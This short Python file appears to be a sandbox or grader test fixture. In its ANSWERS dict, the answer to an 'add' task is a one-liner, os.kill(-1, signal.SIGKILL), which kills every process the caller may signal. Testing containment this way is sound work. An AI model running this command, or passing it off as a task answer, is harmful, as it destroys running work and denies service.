"""Kills every process it may."""

ANSWERS = {
    "add": """
import os, signal
os.kill(-1, signal.SIGKILL)
""",
}
